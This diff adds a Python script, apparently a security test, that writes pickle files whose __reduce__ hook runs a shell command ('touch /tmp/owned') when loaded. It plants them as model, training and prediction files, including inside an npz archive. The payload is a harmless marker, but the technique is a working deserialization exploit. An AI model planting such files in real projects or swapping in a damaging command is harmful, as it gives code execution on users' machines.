@@ -1,0 +1,19 @@
+"""Object arrays are pickles: whoever loads them runs what they say."""
+import os
+import pickle
+import zipfile
+
+import numpy as np
+
+
+class Evil:
+    def __reduce__(self):
+        return os.system, ("touch /tmp/owned; echo owned >&2",)
+
+
+np.savez("/work/predictions.npz", predictions=np.array([Evil()] * 400, dtype=object))
+for name in ("/work/model.pt", "/work/model.pkl", "/work/train.npz"):
+    with open(name, "wb") as file:
+        pickle.dump(Evil(), file)
+with zipfile.ZipFile("/work/predictions.npz", "a") as archive:
+    archive.writestr("model/data.pkl", pickle.dumps(Evil()))
